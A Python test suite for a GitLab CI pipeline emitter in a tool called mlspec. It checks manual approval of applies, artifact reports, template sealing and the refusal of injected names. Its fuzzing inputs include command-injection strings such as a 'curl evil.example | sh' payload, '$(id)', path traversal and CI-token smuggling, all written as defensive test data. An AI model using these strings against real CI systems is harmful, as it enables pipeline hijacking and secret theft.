from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mlspec.errors import MlspecError, OutputError
from mlspec.ir import Bundle, Gateway, GitLab, Pipeline, PipelineGate
from mlspec.resources import data_path
from mlspec.syntax import SourceText, parse
from mlspec.targets import is_sealed, template_renderer
from mlspec.targets.gitlab_ci import TARGET

RENDER = template_renderer()
TEMPLATE = "gitlab_ci/mlspec.gitlab-ci.yml.j2"


def emitted(render=RENDER, gitlab=None, **changes):
    fields = {
        "environments": ("prod", "staging"),
        "branch": "main",
        "runner": "ubuntu-24.04",
        "python": "3.12",
        "workspace_path": ".",
        "evidence_path": "evidence",
        "gates": (PipelineGate("model/screen", has_files=True),),
        "mlspec_version": "0.1.0",
        "source": "mlspec.yaml",
        "gitlab": GitLab(**gitlab or {}),
    }
    sources = (("mlspec.yaml", "sha256:" + "0" * 64),)
    gateway = Gateway("gateway", "ml", "ml.example.org")
    bundle = Bundle("prod", (), (), (), Pipeline(**fields | changes), gateway, sources)
    (artifact,) = TARGET.emit(bundle, render)
    return artifact


def jobs(**changes):
    parsed = parse(SourceText("ci.yml", emitted(**changes).content.encode()))
    assert not parsed.diagnostics
    return {name: job for name, job in parsed.documents[0].data.items() if name != "stages"}


def skeleton(value):
    """The shape of a value: keys and positions, without the texts."""
    if isinstance(value, dict):
        return {key: skeleton(each) for key, each in value.items()}
    if isinstance(value, list):
        return [skeleton(each) for each in value]
    return type(value).__name__


def test_it_is_not_written_unless_it_is_asked_for():
    assert not TARGET.is_default


def test_each_environment_is_judged_planned_and_applied_on_its_own():
    found = jobs()

    assert list(found) == [
        *(".mlspec", "mlspec:validate", "mlspec:compile"),
        *("mlspec:gates:prod", "mlspec:plan:prod", "mlspec:apply:prod", "mlspec:drift:prod"),
        *("mlspec:gates:staging", "mlspec:plan:staging", "mlspec:apply:staging"),
        "mlspec:drift:staging",
    ]
    assert ["mlspec:plan:prod", "mlspec:gates:prod"] == found["mlspec:apply:prod"]["needs"]


def test_only_apply_reaches_an_environment_alone_and_after_somebody_started_it():
    found = {name: job for name, job in jobs().items() if "environment" in job}

    assert ["mlspec:apply:prod", "mlspec:apply:staging"] == list(found)
    job = found["mlspec:apply:prod"]
    assert {"name": "prod"} == job["environment"]
    assert "mlspec-apply-prod" == job["resource_group"]
    assert ["manual"] == [rule["when"] for rule in job["rules"]]
    assert job["interruptible"] is False


def test_a_merge_request_never_gets_a_job_that_writes():
    for name, job in jobs().items():
        if name.startswith("mlspec:apply"):
            assert not any("merge_request" in rule["if"] for rule in job["rules"])


def test_the_widgets_of_a_merge_request_get_their_files():
    found = jobs()

    assert {"terraform", "codequality", "dotenv"} == set(
        found["mlspec:plan:prod"]["artifacts"]["reports"]
    )
    assert {"junit": "mlspec-gates/prod/*.xml"} == found["mlspec:gates:prod"]["artifacts"][
        "reports"
    ]


def test_without_files_there_is_nothing_to_judge():
    found = jobs(gates=(PipelineGate("model/screen", has_files=False),))

    assert not any(name.startswith("mlspec:gates") for name in found)
    assert ["mlspec:validate"] == found["mlspec:plan:prod"]["needs"]


def test_many_models_are_judged_in_portions_that_fit_a_variable():
    gates = tuple(PipelineGate(f"model/m-{index:03}", has_files=True) for index in range(700))

    job = jobs(gates=gates)["mlspec:gates:prod"]
    models = [job["variables"][f"MODELS_{index}"].split() for index in (1, 2, 3)]

    assert [300, 300, 100] == [len(each) for each in models]
    assert [gate.address for gate in gates] == [each for part in models for each in part]
    assert [f'judge {index} "$MODELS_{index}"' for index in (1, 2, 3)] == job["script"][1:-1]


def test_the_registry_of_a_runner_is_a_ref_of_the_repository_or_named_by_the_project():
    assert "git:origin" == jobs()["mlspec:apply:prod"]["variables"]["MLSPEC_REGISTRY"]
    assert not any(
        "MLSPEC_REGISTRY" in job.get("variables", {}) for job in jobs(registry="x").values()
    )


def test_runners_are_chosen_by_tags_and_jobs_have_the_image_of_the_workspace():
    image = "registry.example.org/python:3.13@sha256:" + "4f" * 32

    shared = jobs(gitlab={"tags": ("ml", "linux"), "image": image})[".mlspec"]

    assert (image, ["ml", "linux"]) == (shared["image"], shared["tags"])
    assert "tags" not in jobs()[".mlspec"]


def test_the_file_carries_a_seal_that_an_edit_breaks():
    content = emitted().content.encode()

    assert is_sealed(content)
    assert not is_sealed(content.replace(b"when: manual", b"when: always"))


HOSTILE = st.one_of(
    st.text(min_size=1, max_size=40),
    st.sampled_from(
        [
            '" || $CI_COMMIT_BRANCH =~ /.*/',
            "main\n  script: [id]",
            "main'; curl evil.example | sh; '",
            "$(curl evil.example)",
            "`id`",
            "$CI_JOB_TOKEN",
            "prod\nstages: []",
            "{a: b}",
            "& * ! | > %",
            "../../etc",
            "model/x model/y",
            "\u2028key: value",
            "!reference [.mlspec, script]",
        ]
    ),
)
OF_GITLAB = ("branch", "image", "requirement", "tags")
FIELDS = (
    *("workspace_path", "evidence_path", "mlspec_version", "source", "environments", "gates"),
    *OF_GITLAB,
)


@pytest.mark.parametrize("field", FIELDS)
@settings(deadline=None, max_examples=40)
@given(text=HOSTILE)
def test_no_text_of_a_spec_changes_what_the_jobs_do(field, text):
    value = {
        "environments": ("staging", text),
        "gates": (PipelineGate(f"model/{text}", has_files=True),),
        "tags": (text,),
    }.get(field, text)
    changed = {"gitlab": {field: value}} if field in OF_GITLAB else {field: value}
    plain = {
        "environments": {"environments": ("staging", "b")},
        "tags": {"gitlab": {"tags": ("b",)}},
    }.get(field, {})

    try:
        found = jobs(**changed)
    except OutputError:
        return

    expected = jobs(**plain)
    if field == "environments":
        found = {
            name.removesuffix(f":{text}") + ":b" if name.endswith(f":{text}") else name: job
            for name, job in found.items()
        }
    assert skeleton(expected) == skeleton(found)
    assert [job.get("script") for job in expected.values()] == [
        job.get("script") for job in found.values()
    ]


@pytest.mark.parametrize(
    ("changes", "what"),
    [
        ({"gitlab": {"branch": 'main" || true'}}, "branch"),
        ({"gitlab": {"image": "python:3.12 evil"}}, "container image"),
        ({"gitlab": {"tags": ("a b",)}}, "runner"),
        ({"gitlab": {"requirement": "mlspec @ https://$CI_JOB_TOKEN"}}, "requirement"),
        ({"environments": ("prod staging",)}, "environment"),
        ({"gates": (PipelineGate("model/$(id)", has_files=True),)}, "model"),
        ({"workspace_path": "../other"}, "folder"),
    ],
)
def test_a_name_that_is_more_than_a_name_is_refused(changes, what):
    with pytest.raises(OutputError, match=f"can't be the name of a {what} in a GitLab pipeline"):
        emitted(**changes)


@pytest.mark.parametrize(
    ("old", "new", "reason"),
    [
        ("    - if: {{ on_branch | yaml }}\n      when: manual\n", "    - when: manual\n", "start"),
        ("      when: manual\n", "      when: always\n", "without somebody who starts it"),
        ("  environment:\n    name: {{ environment.name | yaml }}\n", "", "exactly one"),
        ("mlspec:validate:\n", "default:\n", "is no job of mlspec"),
        ("  stage: drift\n", "  stage: deploy\n", "`deploy` is not in `stages`"),
        ("stages: {{", "stages: [\n# {{", "line"),
        ("mlspec:validate:\n", "---\nmlspec:validate:\n", "is not one YAML mapping"),
    ],
)
def test_a_template_that_gives_unsafe_jobs_is_refused(tmp_path, old, new, reason):
    text = (data_path("templates") / TEMPLATE).read_text(encoding="utf-8")
    assert old in text
    (tmp_path / TEMPLATE).parent.mkdir()
    place = text.rindex(old)
    (tmp_path / TEMPLATE).write_text(text[:place] + new + text[place + len(old) :])

    with pytest.raises(MlspecError, match=reason):
        emitted(template_renderer(tmp_path))
